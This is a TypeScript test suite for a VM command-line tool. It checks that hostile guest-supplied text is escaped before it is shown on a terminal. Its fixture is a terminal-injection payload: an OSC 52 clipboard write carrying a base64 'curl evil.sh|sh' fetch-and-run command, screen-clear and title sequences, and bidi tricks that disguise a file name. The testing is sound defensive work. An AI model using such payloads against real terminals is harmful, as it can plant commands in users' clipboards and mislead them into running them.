import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli, type Output } from './index.js';
import { BangerError } from '../model/index.js';
import { silentLogger } from '../log/index.js';
import { OperationRegistry } from '../opstate/index.js';
import { resolveLayout } from '../paths/index.js';
import { METHODS, RpcServer, type Handlers } from '../rpc/index.js';
import { sampleVm } from '../../test/fixtures/vms.js';

/**
 * Guest text through the real path: `runCli` -> commander -> the RPC client -> a daemon
 * socket -> rendering -> Output. The daemon is a real RpcServer with the real method table
 * whose handlers answer what a hostile guest could make bangerd pass on.
 */

/** An OSC 52 clipboard write, a screen clear, a title change, a lone \r, an 8-bit CSI, a bidi override, an isolate and a lone surrogate, around plain UTF-8. */
const HOSTILE =
  'nginx\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[2J\u001b]0;owned\u001b\\\rfake\u009b31m \u202etxt.exe\u2066x\u2069\ud800 café 日本 😀';
const PATCH = `From ${'a'.repeat(40)} Mon Sep 17 00:00:00 2001\nSubject: [PATCH] x\n\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-old\r\n+${HOSTILE}\r\n`;

/** Any character a terminal could act on; \n and \t are the only controls allowed, and \r only before \n. */
const UNSAFE =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]|\r(?!\n)/u;

function assertSafe(text: string, what: string): void {
  const m = UNSAFE.exec(text);
  assert.equal(
    m,
    null,
    `${what}: U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} at ${m?.index} reached the output: ${JSON.stringify(text)}`,
  );
  // The UTF-8 around it is intact.
  assert.match(text, /café 日本 😀/, `${what} keeps plain UTF-8`);
}

function memoryOutput(isTty: boolean): Output & { stdout: string; stderr: string } {
  const o = {
    stdout: '',
    stderr: '',
    colour: false,
    isTty,
    out(t: string) {
      o.stdout += t;
    },
    err(t: string) {
      o.stderr += t;
    },
  };
  return o;
}

let dir = '';
let env: NodeJS.ProcessEnv = {};
let server: RpcServer<typeof METHODS> | undefined;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'banger-guest-text-'));
  env = { HOME: dir, XDG_RUNTIME_DIR: join(dir, 'run'), BANGER_MODE: 'user', NO_COLOR: '1' };
  const layout = resolveLayout(env);
  mkdirSync(join(dir, 'run', 'banger'), { recursive: true, mode: 0o700 });
  const vm = sampleVm({ state: 'running', lastError: `export failed: ${HOSTILE}` });
  const handlers: Partial<Handlers<typeof METHODS>> = {
    'vm.ports': async () => ({
      ports: [
        {
          vm: 'dev',
          proto: 'tcp',
          address: `0.0.0.0\n${HOSTILE}`,
          port: 80,
          pid: 42,
          process: HOSTILE,
          endpoint: 'dev.vm:80',
          url: 'http://dev.vm:80/',
        },
        {
          vm: 'dev',
          proto: 'udp',
          address: '127.0.0.1',
          port: 53,
          pid: null,
          process: null,
          endpoint: null,
          url: null,
        },
      ],
    }),
    'vm.show': async () => ({
      vm,
      forwards: [],
      runtime: {
        pid: 7,
        vmm: 'qemu',
        status: 'running',
        startedAt: '2026-01-01T00:00:00.000Z',
        tap: 'tap0',
        agent: {
          health: {
            boot_id: HOSTILE,
            uptime_s: 5,
            hostname: HOSTILE,
            agent_version: HOSTILE,
            protocol: 1,
            transport: HOSTILE,
            pid: 1,
          },
        },
      },
      autoStop: { enabled: false, afterMs: 0, idleSince: vm.touchedAt, stopAt: null },
    }),
    'vm.list': async () => ({ vms: [vm] }),
    // review15: what `image pull` records from a hostile image's /etc/os-release (ID=..., lowercased).
    'image.list': async () => ({
      images: [
        {
          id: 'abcd1234',
          name: 'evil',
          source: 'oci:127.0.0.1:5000/evil:1',
          distro: HOSTILE.toLowerCase(),
          arch: 'x86_64',
          rootfsPath: '/x/rootfs.ext4',
          workSeedPath: null,
          kernelId: null,
          initrdPath: null,
          sizeBytes: 1,
          createdAt: '2026-01-01T00:00:00.000Z',
          oci: null,
        },
      ],
    }),
    'vm.workspace.export': async ({ name }) => {
      if (name === 'broken')
        throw new BangerError('operation_failed', `VM broken: export failed: ${HOSTILE}`, {
          hint: `last console lines:\n${HOSTILE}`,
        });
      return { patch: PATCH, base: 'b'.repeat(40) };
    },
    'vm.logs': async ({ offset }) => ({
      text: offset === 0 ? `[    0.000000] Linux\r\n${HOSTILE}\r\n` : '',
      offset: 99,
      vmmLog: '/dev/null',
    }),
    'vm.workspace.prepare': async (_p, ctx) => {
      ctx.progress('workspace', `HEAD ${HOSTILE}`);
      const about = { mode: 'git' as const, readonly: false, dryRun: false, root: '/r', guestPath: '/root/repo' };
      return { bytes: 1, ms: 1, files: 1, vm, ...about, paths: [] };
    },
  };
  server = new RpcServer({
    socketPath: layout.daemonSocket,
    methods: METHODS,
    handlers: handlers as Handlers<typeof METHODS>,
    log: silentLogger,
    operations: new OperationRegistry(),
  });
  await server.listen();
});

after(async () => {
  await server?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function banger(args: string[], isTty: boolean) {
  const o = memoryOutput(isTty);
  const code = await runCli(args, env, o);
  return { code, stdout: o.stdout, stderr: o.stderr };
}

test('vm ports: process names and addresses from the agent are escaped to one line per row, on a terminal or not', async () => {
  for (const tty of [true, false]) {
    const r = await banger(['vm', 'ports'], tty);
    assert.equal(r.code, 0, r.stderr);
    assertSafe(r.stdout, 'vm ports');
    assert.equal(
      r.stdout.trimEnd().split('\n').length,
      3,
      'a header and two rows: a \\n from the guest does not make a row',
    );
    assert.match(r.stdout, /nginx\\x1b\]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x1b\[2J/);
    assert.match(r.stdout, /\\rfake\\x9b31m \\u202etxt\.exe\\u2066x\\u2069\\ud800 café/);
    assert.match(r.stdout, /0\.0\.0\.0\\nnginx/);
  }
  const j = await banger(['vm', 'ports', '--json'], true);
  assertSafe(j.stdout, 'vm ports --json');
  assert.equal(
    JSON.parse(j.stdout)[0].process,
    HOSTILE,
    '--json carries the same value, only spelled with \\u escapes',
  );
});

test('vm show: the agent health and the last error are escaped', async () => {
  const r = await banger(['vm', 'show', 'dev'], true);
  assert.equal(r.code, 0, r.stderr);
  assertSafe(r.stdout, 'vm show');
  assert.match(r.stdout, /^agent +v.*boot_id nginx\\x1b/m);
  assert.match(r.stdout, /^last error +export failed: nginx\\x1b/m);
  const j = await banger(['vm', 'show', 'dev', '--json'], true);
  assertSafe(j.stdout, 'vm show --json');
  assert.equal(JSON.parse(j.stdout).runtime.agent.health.hostname, HOSTILE);
});

test('vm workspace export: byte-exact when piped, escaped with a note on a terminal', async () => {
  const piped = await banger(['vm', 'workspace', 'export', 'dev'], false);
  assert.equal(piped.code, 0, piped.stderr);
  assert.equal(piped.stdout, PATCH, 'what `| git am` gets is the patch itself');
  assert.equal(piped.stderr, '');

  const tty = await banger(['vm', 'workspace', 'export', 'dev'], true);
  assert.equal(tty.code, 0, tty.stderr);
  assertSafe(tty.stdout, 'export on a terminal');
  assert.match(tty.stdout, /^-old\r\n\+nginx\\x1b\]52;/m, 'CRLF line ends are kept, the rest is escaped');
  assert.match(tty.stderr, /escaped for display.*-o FILE/);

  const json = await banger(['vm', 'workspace', 'export', 'dev', '--json'], true);
  assertSafe(json.stdout, 'export --json');
  assert.equal(JSON.parse(json.stdout).patch, PATCH);
});

test('vm logs: the console is escaped on a terminal (CRLF kept) and raw when piped', async () => {
  const tty = await banger(['vm', 'logs', 'dev'], true);
  assert.equal(tty.code, 0, tty.stderr);
  assertSafe(tty.stdout, 'vm logs');
  assert.match(tty.stdout, /^\[ {4}0\.000000\] Linux\r\nnginx\\x1b/);
  assert.match(tty.stderr, /shown escaped.*banger vm logs dev > FILE/);
  const piped = await banger(['vm', 'logs', 'dev'], false);
  assert.equal(piped.stdout, `[    0.000000] Linux\r\n${HOSTILE}\r\n`);
});

test('errors and progress that quote the guest are escaped', async () => {
  const failed = await banger(['vm', 'workspace', 'export', 'broken'], true);
  assert.equal(failed.code, 1);
  assertSafe(failed.stderr, 'error message and hint');
  assert.match(failed.stderr, /^banger: VM broken: export failed: nginx\\x1b/m);
  assert.match(failed.stderr, /^hint: last console lines:\nnginx\\x1b/m);
  const prepared = await banger(['vm', 'workspace', 'prepare', 'dev'], true);
  assert.equal(prepared.code, 0, prepared.stderr);
  assertSafe(prepared.stderr, 'progress');
  assert.match(prepared.stderr, /dev: workspace \(HEAD nginx\\x1b/);
});

test('review15: image list escapes the distro a pulled image named in its os-release', async () => {
  // detectImage takes ID= from the image's /etc/os-release verbatim (parseOsRelease keeps every
  // byte but \n); image list renders it raw with renderTable: OSC 52, screen clear, title...
  const r = await banger(['image', 'list'], true);
  assert.equal(r.code, 0, r.stderr);
  assertSafe(r.stdout, 'image list');
});
